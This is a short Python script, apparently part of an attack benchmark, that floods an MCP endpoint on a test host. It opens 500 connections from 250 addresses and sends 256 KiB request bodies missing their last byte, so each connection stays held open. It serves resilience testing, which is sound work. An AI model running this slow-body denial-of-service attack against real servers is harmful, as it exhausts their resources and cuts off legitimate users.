"""Send messages for agents of 256 KiB, without their last byte, on 500 connections from 250 addresses."""

import random

from benchmarks.attack.target import MANY_ADDRESSES, Target, repeat

SIZE = 262_144
HEAD = b"POST /mcp HTTP/1.1\r\nHost: guide.test\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % SIZE


async def attack(target: Target) -> None:
    """Send all but the last byte and wait until the server closes the connection."""
    async with target.connected(random.choice(MANY_ADDRESSES)) as (reader, writer):
        writer.write(HEAD + b" " * (SIZE - 1))
        await reader.read()


if __name__ == "__main__":
    repeat(attack, clients=500)
